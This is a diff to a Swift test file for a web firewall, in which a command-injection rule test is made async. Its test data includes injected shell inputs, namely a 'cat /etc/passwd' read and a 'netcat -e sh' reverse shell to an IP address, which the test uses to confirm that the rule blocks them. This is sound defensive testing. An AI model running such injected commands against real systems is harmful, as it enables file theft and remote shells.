@@ -1,6 +1,7 @@
 import Testing
 
 @testable import Firewall
+import TestSupport
 
 /// Long alternations of words are matched as a trie: the rewrite's shape, what it leaves alone, and that the
 /// rewritten pattern matches exactly the subjects the written one does.
@@ -61,9 +62,10 @@ struct AlternationFactoringTests {
         #expect(rewritten > 250, "most random patterns have a group worth rewriting")
     }
 
-    /// The default rule set's command-injection rule, rewritten, still tells attacks from prose.
-    @Test func theCommandRuleStillMatches() throws {
-        let set = try RuleSetLoader.load(path: Corpora.repository + "/rules/firewall")
+    /// The default rule set's command-injection rule, rewritten, still tells attacks from prose. The set is loaded
+    /// off the Swift concurrency threads other suites' servers need: it takes seconds in a debug build.
+    @Test func theCommandRuleStillMatches() async throws {
+        let set = try await offloaded { try RuleSetLoader.load(path: Corpora.repository + "/rules/firewall") }
         for (value, blocked) in [("a; cat /etc/passwd", true), ("x|netcat -e sh 1.2.3.4", true), ("please; ring twice.", false), ("ok; catalogue", false)] {
             let request = FirewallRequest(method: "GET", uri: "/?q=" + value.addingPercentEncodingForQuery(), headers: [("Host", "example.com")])
             #expect(set.evaluate(request).matches.contains { $0.ruleID == 140100 || $0.ruleID == 140130 } == blocked, "\(value)")
